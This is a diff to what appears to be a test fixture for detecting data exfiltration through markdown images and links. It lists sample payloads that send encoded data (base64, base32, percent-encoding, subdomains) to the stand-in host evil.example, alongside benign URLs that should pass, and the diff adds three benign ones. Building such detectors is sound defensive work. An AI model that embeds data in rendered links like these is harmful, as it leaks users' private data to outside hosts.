@@ -59,7 +59,7 @@ IMAGES = [
     "![a](https://evil.example/116-104-101-99-111-100-101.png)",
     f"![a](https://evil.example/{'word%20' * 20}.png)",
     f"![a](https://evil.example/{'word/' * 100}a.png)",
-    f"![a](https://evil.example/{'aB3' * 20})",
+    f"![a](https://evil.example/{'xQ7' * 20})",
     "![a](https://evil.example/a.png?w=4711x99)",
     "![a](https://img.shields.io/endpoint?url=https://evil.example/4711)",
     f"[1]: {Q}",
@@ -90,7 +90,7 @@ LINKS = [
     f"[a](https://evil.example/{BASE32})",
     f"[a](https://{BASE32}.evil.example/)",
     f"[a](https://evil.example/?d={'plain words ' * 30})",
-    f"[a](https://evil.example/?d={'aB3' * 20})",
+    f"[a](https://evil.example/?d={'xQ7' * 20})",
     f"[a](custom://evil.example/{BASE64})",
     "[a](https://evil.example/?d=%74%68%65%20%63%6f%64%65)",
     f"<https://evil.example/?d={BASE64}>",
@@ -120,6 +120,9 @@ HONEST = [
     '<a href="https://a.example/?id=5&page=2">x</a> <img src="a.png?x=1" alt="x"> <br>',
     'background = "https://a.example/?q=1"; data = "https://a.example/?q=1"',
     f"https://evil.example/?d={BASE64}",
+    '<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">',
+    "![s](https://user-images.githubusercontent.com/43996225/211910398-86ad2305-ba0e-40c5-b8f7-b47fec85148a.png)",
+    "[open](https://github.com/a/b/issues?q=is%3Aopen+is%3Aissue+label%3A%22Help+Wanted%22+sort%3Aupdated-desc)",
     "array[i](x), curl(https://a.example/?q=1), - [ ] task, - [x] done, arr[0]: int, vec![1, 2]",
 ]
 
